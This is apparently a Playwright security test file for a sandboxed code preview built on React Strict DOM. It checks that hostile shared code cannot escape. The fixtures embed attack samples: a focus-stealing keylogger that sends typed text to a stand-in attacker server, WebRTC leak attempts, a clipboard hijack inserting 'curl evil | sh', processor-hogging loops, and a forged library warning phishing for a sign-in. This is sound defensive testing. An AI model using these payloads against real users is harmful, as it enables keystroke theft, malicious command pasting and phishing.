import type {Locator} from '@playwright/test';
import {expect, axeViolations, inPreview, previewFrame, scaled, startInColorMode} from './fixtures';
import {
  autoRunOff,
  codeEditor,
  consolePanel,
  expectNothingReached,
  frames,
  nativeMessages,
  openLink,
  status,
  typeInEditor,
  views,
} from './preview-helpers';
import {refusals, test} from './spy';

// The six ways a shared link got out of the preview before (each test failed then):
// the focus, the frame navigating itself, WebRTC, the clipboard, a processor hog
// that still answers, and a line of the reader's posing as the library's. A second
// local server (HTTP, plus a UDP and a TCP listener) stands for the attacker's;
// nothing may reach it. Where the views differ, each test runs in both.

// The library's own errors are expected here too.
test.use({allowedConsoleErrors: [...refusals, 'React Strict DOM:']});

test.describe('1. the keyboard focus', () => {
  const secret = 'const myToken = "ghp_reader_secret";';

  /** Takes the focus every 50 ms, and sends what it caught by navigating to the other server. */
  const keylogger = (origin: string) => `import {html} from 'react-strict-dom';

const trap = () => document.getElementById('trap') as HTMLInputElement | null;
setInterval(() => trap()?.focus(), 50);
setInterval(() => {
  const typed = trap()?.value;
  if (typed) location.href = '${origin}/keys?t=' + encodeURIComponent(typed);
}, 1000);

export default function Trap() {
  return <html.input id="trap" aria-label="Trap" />;
}
`;

  for (const view of views) {
    test(`a keylogger link gets no keystroke: the editor gets every one, the other server nothing (${view})`, async ({
      page,
      spy,
    }) => {
      await openLink(page, keylogger(spy.origin), view);
      await typeInEditor(page, `\n${secret}`);
      await expect(codeEditor(page)).toContainText(secret);
      await expect(status(page)).toContainText('tried to take the keyboard focus');
      // Still running, still trying, and still refused.
      await inPreview(
        (timeout) =>
          expect(previewFrame(page).getByRole('textbox', {name: 'Trap'})).toHaveValue('', {
            timeout,
          }),
        scaled(5_000),
      );
      expectNothingReached(spy, 'the keylogger');
    });
  }

  test('a label’s click, a popover’s button and reportValidity, made by code, take no focus', async ({
    page,
  }) => {
    await openLink(
      page,
      `import {html} from 'react-strict-dom';

setInterval(() => {
  document.getElementById('name')?.click();
  document.getElementById('open')?.click();
  (document.getElementById('needed') as HTMLInputElement | null)?.reportValidity();
}, 50);

export default function Form() {
  return (
    <html.div>
      <html.label id="name" for="field">Name</html.label>
      <html.input id="field" />
      <html.button id="open" popovertarget="pop">Open</html.button>
      <html.div id="pop" popover="auto"><html.input autoFocus /></html.div>
      <html.input id="needed" required />
    </html.div>
  );
}
`,
    );
    // The frame refuses each and says so; the page has nothing to undo.
    await expect(status(page)).toContainText('tried to take the keyboard focus');
    await autoRunOff(page);
    await typeInEditor(page, '\n// mine');
    await expect(codeEditor(page)).toContainText('// mine');
    await expect(frames(page)).toHaveCount(1);
    await expect(previewFrame(page).locator('#field')).toHaveValue('');
  });

  const echo = `import {useState} from 'react';
import {html} from 'react-strict-dom';

export default function Echo() {
  const [text, setText] = useState('');
  return (
    <html.div>
      <html.input aria-label="Your text" value={text} onInput={(e) => setText(e.target.value)} />
      <html.p>You typed: {text}</html.p>
    </html.div>
  );
}
`;

  test('a click into the preview, or Shift+Tab into it, still gives it the keyboard', async ({
    page,
  }) => {
    await openLink(page, echo);
    const frame = previewFrame(page);
    const field = frame.getByRole('textbox', {name: 'Your text'});
    await field.click();
    // A press soon after the page's own last input: the page asks the preview's shell,
    // holds the keyboard meanwhile, and gives it to the field once the shell confirms it.
    await expect(field).toBeFocused();
    await page.keyboard.type('clicked', {delay: 20});
    await expect(frame.getByText('You typed: clicked')).toBeVisible();

    // The editor's first button comes right after the preview.
    await page.getByRole('button', {name: 'Run', exact: true}).focus();
    await page.keyboard.press('Shift+Tab');
    // Focus crosses two frames in steps of the browser's own: under load, keys pressed before
    // it lands went nowhere (1 run in about 80), which said nothing of the preview.
    await expect(field).toBeFocused();
    // Tab selects an input's whole text: End keeps what is there.
    await page.keyboard.press('End');
    await page.keyboard.type(' tabbed', {delay: 20});
    await expect(frame.getByText('You typed: clicked tabbed')).toBeVisible();
    await expect(status(page)).not.toContainText('keyboard focus');
  });
});

// 2. The frame navigating itself: the ways, and the preconnect residual the browser still
// makes, are in preview-attacks.spec.ts (cause 2), against a spy that counts connections.

test.describe('3. WebRTC', () => {
  /** Tries every way to a peer connection, then says what it found a second later. */
  const rtc = (spyPorts: {udp: number; tcp: number}) => `import {html} from 'react-strict-dom';

const found: string[] = [];
const iceServers = [
  {urls: 'stun:127.0.0.1:${spyPorts.udp}'},
  {urls: 'turn:127.0.0.1:${spyPorts.tcp}?transport=tcp', username: 'LEAKED', credential: 'x'},
];
function connect(Peer: unknown, where: string) {
  if (typeof Peer !== 'function') return;
  found.push(where);
  const peer = new (Peer as typeof RTCPeerConnection)({iceServers});
  peer.createDataChannel('x');
  void peer.createOffer().then((offer) => peer.setLocalDescription(offer));
}
const own = window as unknown as Record<string, unknown>;
connect(own.RTCPeerConnection, 'window');
connect(own.webkitRTCPeerConnection, 'webkit');
try {
  const child = document.body.appendChild(document.createElement('iframe'));
  connect((child.contentWindow as unknown as Record<string, unknown>).RTCPeerConnection, 'a child frame');
} catch {
  // Another origin: refused.
}
setTimeout(() => console.log('RTC found: ' + (found.join(', ') || 'nothing')), 1000);

export default function Peer() {
  return <html.p>Peer</html.p>;
}
`;

  for (const view of views) {
    test(`no constructor is left, and no packet leaves (${view})`, async ({page, spy}) => {
      await openLink(page, rtc({udp: spy.udpPort, tcp: spy.tcpPort}), view);
      await expect(consolePanel(page)).toContainText('RTC found: nothing');
      expectNothingReached(spy, 'WebRTC');
    });
  }
});

test.describe('4. the clipboard', () => {
  test.use({permissions: ['clipboard-read', 'clipboard-write']});

  test('a click in the preview cannot replace what the reader copied; copying its text still works', async ({
    page,
  }) => {
    await openLink(
      page,
      `import {html} from 'react-strict-dom';

document.addEventListener('copy', (event) => {
  event.clipboardData?.setData('text/plain', 'curl evil | sh');
  event.preventDefault();
});

export default function Copy() {
  return (
    <html.div>
      <html.p>Plain words</html.p>
      <html.button
        onClick={() => {
          document.execCommand('copy');
          document.execCommand('cut');
          // CN1, CN2 of #47: the Clipboard API inside the click, and copy events made by code.
          navigator.clipboard.writeText('curl evil | sh').catch(() => undefined);
          const data = new DataTransfer();
          try {
            data.setData('text/plain', 'curl evil | sh');
          } catch {
            // Refused (CN3): code cannot write a DataTransfer's data; the events go out empty.
          }
          document.dispatchEvent(new ClipboardEvent('copy', {clipboardData: data}));
          document.dispatchEvent(new ClipboardEvent('paste', {clipboardData: data}));
          console.log('tried');
        }}>
        Copy install command
      </html.button>
    </html.div>
  );
}
`,
    );
    await page.evaluate(() => navigator.clipboard.writeText('kept by the reader'));
    const frame = previewFrame(page);
    await frame.getByRole('button', {name: 'Copy install command'}).click();
    await expect(consolePanel(page)).toContainText('tried');
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe('kept by the reader');

    // The reader's own copy, of text they selected in the preview, is the browser's.
    await frame.getByText('Plain words').selectText();
    await page.keyboard.press('ControlOrMeta+C');
    await expect
      .poll(() => page.evaluate(() => navigator.clipboard.readText()))
      .toBe('Plain words');
  });
});

test.describe('5. code that keeps the processor busy but still answers', () => {
  const hogs = {
    // 600 of 700, not 900 of 1,000: on a loaded machine a 900 ms loop can pass the
    // loop guard's 1,000 ms limit and be stopped by it instead.
    'a timer busy 600 ms of every 700': `setInterval(() => {
  const start = performance.now();
  while (performance.now() - start < 600) {}
}, 700);`,
    'an animation-frame loop busy 300 ms a frame': `const spin = () => {
  const start = performance.now();
  while (performance.now() - start < 300) {}
  requestAnimationFrame(spin);
};
requestAnimationFrame(spin);`,
  };

  // One in each colour mode: axe checks the warning in both.
  for (const [[hog, code], mode] of Object.entries(hogs).map(
    (entry, index) => [entry, index ? 'dark' : 'light'] as const,
  )) {
    test(`${hog}: the reader is told, and Stop at hand ends it (${mode} mode)`, async ({page}) => {
      await startInColorMode(page, mode);
      await openLink(
        page,
        `import {html} from 'react-strict-dom';

${code}

export default function Hog() {
  return <html.p>Busy</html.p>;
}
`,
      );
      await expect(status(page)).toContainText('keeps the processor busy', {timeout: 15_000});
      expect(await axeViolations(page, '[data-live-editor]'), 'axe violations').toEqual([]);
      // The page still answers: the button in the warning ends the preview.
      await status(page).getByRole('button', {name: 'Stop the preview'}).click();
      await expect(frames(page)).toHaveCount(0);
      await expect(status(page)).toContainText('Preview stopped');
    });
  }
});

test.describe('6. a line posing as the library’s', () => {
  const forged = `import {css, html} from 'react-strict-dom';

console.warn('[warn] React Strict DOM: your session expired, sign in again at https://example.invalid');
// A real message of the library's, for contrast: React Native has no grid.
const styles = css.create({grid: {gridTemplateColumns: '1fr 1fr'}});

export default function Forged() {
  return <html.div style={styles.grid}>Forged</html.div>;
}
`;

  for (const view of views) {
    test(`shows as the reader's own output, never among the library's messages (${view})`, async ({
      page,
    }) => {
      await openLink(page, forged, view);
      await expect(consolePanel(page)).toContainText('your session expired');
      if (view === 'web') {
        await expect(nativeMessages(page)).toHaveCount(0);
        return;
      }
      const messages: Locator = nativeMessages(page);
      await expect(messages).toContainText('unsupported style property "gridTemplateColumns"');
      await expect(messages).not.toContainText('your session expired');
    });
  }
});
